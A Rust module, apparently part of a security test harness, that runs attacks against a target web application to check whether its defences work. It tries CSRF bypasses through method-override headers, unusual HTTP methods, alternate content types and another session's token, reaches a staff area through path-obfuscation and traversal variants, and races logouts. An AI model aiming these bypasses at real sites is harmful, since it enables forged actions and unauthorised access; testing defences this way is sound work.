//! `inert-defence`: the ways round a defence that is written and does not run: other methods, other spellings, other types, other moments.

use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use bytes::Bytes;
use http::{Method, header};
use testkit::Visitor;
use testkit::raw::exchange;
use testkit::visitor::{Reply, form};

use super::Outcome;
use super::member::{is_in, join, keep};
use crate::{Person, Target};

/// What the victim would never write.
const FORGED: &str = "Owned";

/// How long a request that was cut off may go on.
const AFTERWARDS: Duration = Duration::from_millis(1500);

/// Sends the victim to an address that says it is a POST: in a header, in a parameter.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn method_said_elsewhere(target: &Target) -> Result<Outcome> {
    let mut victim = join(target, Person::VICTIM).await?;
    let query = format!("/profile/?first_name={FORGED}&last_name={FORGED}");
    for (path, name) in [
        (format!("{query}&_method=POST"), "x-nothing"),
        (query.clone(), "X-HTTP-Method-Override"),
        (query.clone(), "X-HTTP-Method"),
        (query.clone(), "X-Method-Override"),
        (query, "x-nothing"),
    ] {
        let request = victim.request(Method::GET, &path).header(name, "POST");
        victim.send(request, Bytes::new()).await?;
    }
    changed(&mut victim).await
}

/// Asks with HEAD, OPTIONS and a method of its own for what only a POST may do.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn method_that_nobody_guards(target: &Target) -> Result<Outcome> {
    let mut victim = join(target, Person::VICTIM).await?;
    keep(&mut victim, "kept", "x").await?;
    let list = victim.open("/").await?.text();
    let note = list
        .split("href=\"/secret/")
        .filter_map(|rest| rest.split_once("/\""))
        .map(|(id, _)| id)
        .find(|id| !id.is_empty() && !id.contains('/') && *id != "shown")
        .context("the note is not listed")?
        .to_owned();
    let mut answers = Vec::new();
    for method in [
        "HEAD", "OPTIONS", "GET", "PROPFIND", "post", "DELETE", "PUT", "PATCH", "QUERY",
    ] {
        for path in [
            format!("/secret/{note}/delete/"),
            format!("/secret/{note}/"),
            "/logout/".to_owned(),
        ] {
            let method = Method::from_bytes(method.as_bytes())?;
            let request = victim.request(method.clone(), &path);
            // What comes back may be no answer that a client understands.
            let reply = victim.clone().send(request, Bytes::new()).await;
            answers.push(format!(
                "{method} {path}: {:?}",
                reply.map(|reply| reply.status).ok()
            ));
        }
    }
    let logged_in = is_in(&mut victim).await?;
    let there = victim
        .open(&format!("/secret/{note}/"))
        .await?
        .text()
        .contains("kept");
    Ok(Outcome::new(
        !logged_in || !there,
        format!("the note is there: {there}, logged in: {logged_in}; {answers:?}"),
    ))
}

/// Writes the address of the staff area in all the ways that a guard does not know and a router might.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn address_written_otherwise(target: &Target) -> Result<Outcome> {
    join(target, Person::VICTIM).await?;
    let mallory = join(target, Person::ATTACKER).await?;
    let session = mallory.cookie("sessionid").context("no session")?.to_owned();
    let mut inside = Vec::new();
    for path in [
        "//staff/csp/",
        "/staff//csp/",
        "/staff/csp",
        "/./staff/csp/",
        "/x/../staff/csp/",
        "/%73taff/csp/",
        "/staff%2fcsp/",
        "/staff%2Fcsp%2F",
        "/staff\\csp\\",
        "/STAFF/csp/",
        "/staff/csp/%0a",
        "/staff/csp/%20",
        "/staff/csp/%00",
        "/staff/csp/;",
        "/staff/csp/;a=b",
        "/staff/csp/.",
        "/;/staff/csp/",
        "/widget/..%2fstaff/csp/",
        "/staff/csp/?_method=GET",
        "/%2e%2e/staff/csp/",
        "*",
        "https://staff/csp/",
    ] {
        let request = format!(
            "GET {path} HTTP/1.1\r\nHost: {}\r\nCookie: sessionid={session}\r\nX-Original-URL: /staff/csp/\r\n\
             X-Rewrite-URL: /staff/csp/\r\nConnection: close\r\n\r\n",
            target.host()
        );
        let said = exchange(target.wire().await?, request).await?;
        let names = said.contains(Person::VICTIM.username) || said.to_lowercase().contains("violat");
        if said.starts_with("HTTP/1.1 200") && names {
            inside.push(path);
        }
    }
    Ok(Outcome::new(!inside.is_empty(), format!("inside by {inside:?}")))
}

/// Posts the victim's form without its token, as a type that a check of forms may not look at.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn type_that_the_check_passes_over(target: &Target) -> Result<Outcome> {
    let mut victim = join(target, Person::VICTIM).await?;
    let fields = form(&[("first_name", FORGED), ("last_name", FORGED)]);
    let multipart = format!(
        "--x\r\nContent-Disposition: form-data; name=\"first_name\"\r\n\r\n{FORGED}\r\n--x\r\n\
         Content-Disposition: form-data; name=\"last_name\"\r\n\r\n{FORGED}\r\n--x--\r\n"
    );
    let json = format!("{{\"first_name\":\"{FORGED}\",\"last_name\":\"{FORGED}\"}}");
    for (kind, body) in [
        ("text/plain", &fields),
        ("", &fields),
        ("application/x-www-form-urlencoded; charset=utf-16", &fields),
        ("APPLICATION/X-WWW-FORM-URLENCODED", &fields),
        ("text/plain; application/x-www-form-urlencoded", &fields),
        ("application/json", &json),
        ("text/json", &json),
        ("application/csp-report", &fields),
        ("multipart/form-data; boundary=x", &multipart),
        ("multipart/mixed; boundary=x", &multipart),
    ] {
        let request = victim.request(Method::POST, "/profile/");
        let request = if kind.is_empty() {
            request
        } else {
            request.header(header::CONTENT_TYPE, kind)
        };
        victim.send(request, Bytes::from(body.clone())).await?;
    }
    changed(&mut victim).await
}

/// Posts the victim's form with a token that belongs to the attacker's own session.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn token_of_another_session(target: &Target) -> Result<Outcome> {
    let mut victim = join(target, Person::VICTIM).await?;
    let mut mallory = join(target, Person::ATTACKER).await?;
    let token = mallory
        .open("/profile/")
        .await?
        .field("csrfmiddlewaretoken")
        .context("the attacker has no token")?;
    let fields = [
        ("first_name", FORGED),
        ("last_name", FORGED),
        ("csrfmiddlewaretoken", token.as_str()),
    ];
    post(&mut victim, "/profile/", &fields).await?;
    changed(&mut victim).await
}

/// Logs out and writes at the same moment, many times: the write may put back what the logout has ended.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn write_races_the_logout(target: &Target) -> Result<Outcome> {
    let mut member = join(target, Person::VICTIM).await?;
    for round in 0..6 {
        if round > 0 {
            super::member::log_in(&mut member, Person::VICTIM).await?;
        }
        ensure!(is_in(&mut member).await?, "nobody is logged in");
        let copy = member.clone();
        let title = format!("race {round}");
        let (mut leaver, mut writer, mut other) = (member.clone(), member.clone(), member.clone());
        let fields = [("title", title.as_str()), ("body", "x")];
        let token = leaver
            .open("/")
            .await?
            .field("csrfmiddlewaretoken")
            .unwrap_or_default();
        let leave = [("csrfmiddlewaretoken", token.as_str())];
        let (left, written, named) = tokio::join!(
            post(&mut leaver, "/logout/", &leave),
            writer.submit("/secret/", &fields),
            other.submit("/secret/", &fields),
        );
        let left = left?;
        ensure!(
            left.status.is_redirection(),
            "the logout was answered with {}",
            left.status
        );
        written?;
        named?;
        if is_in(&mut copy.clone()).await? {
            return Ok(Outcome::new(
                true,
                format!("the session is back in round {round}"),
            ));
        }
        member = member.stranger();
    }
    Ok(Outcome::new(false, "no session came back in six rounds"))
}

/// Cuts the connection as soon as the victim's logout has left, and keeps a copy of the cookie.
///
/// # Errors
/// When the attack could not be carried out.
pub async fn logout_cut_off(target: &Target) -> Result<Outcome> {
    let mut open = 0;
    for round in 0..4 {
        let person = Person {
            username: ["cut-a", "cut-b", "cut-c", "cut-d"]
                .get(round)
                .copied()
                .unwrap_or("cut"),
            ..Person::VICTIM
        };
        let mut victim = join(target, person).await?;
        let token = victim
            .open("/")
            .await?
            .field("csrfmiddlewaretoken")
            .unwrap_or_default();
        let cookies = ["sessionid", "csrftoken"].map(|name| (name, victim.cookie(name).unwrap_or_default()));
        let cookies = cookies.map(|(name, value)| format!("{name}={value}")).join("; ");
        let body = form(&[("csrfmiddlewaretoken", &token)]);
        let origin = victim.origin();
        let request = format!(
            "POST /logout/ HTTP/1.1\r\nHost: {}\r\nCookie: {cookies}\r\nOrigin: {origin}\r\nReferer: {origin}/\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            target.host(),
            body.len()
        );
        let mut wire = target.wire().await?;
        wire.send(request).await?;
        drop(wire);
        let begun = Instant::now();
        let mut still = true;
        while still && begun.elapsed() < AFTERWARDS {
            still = is_in(&mut victim.clone()).await?;
            tokio::time::sleep(Duration::from_millis(30)).await;
        }
        open += usize::from(still);
    }
    Ok(Outcome::new(
        open > 0,
        format!("{open} of 4 sessions outlive the logout that was cut off"),
    ))
}

/// Posts from the site's own origin, with just these fields.
async fn post(visitor: &mut Visitor, path: &str, fields: &[(&str, &str)]) -> Result<Reply> {
    let origin = visitor.origin();
    let request = visitor
        .request(Method::POST, path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::ORIGIN, &origin)
        .header(header::REFERER, format!("{origin}{path}"));
    visitor.send(request, form(fields).into()).await
}

/// Whether the victim's profile says what they never wrote.
async fn changed(victim: &mut Visitor) -> Result<Outcome> {
    let page = victim.open("/profile/").await?;
    ensure!(
        page.status.is_success(),
        "the profile was answered with {}",
        page.status
    );
    let name = page.field("first_name").unwrap_or_default();
    Ok(Outcome::new(
        page.text().contains(FORGED),
        format!("the first name is {name:?}"),
    ))
}
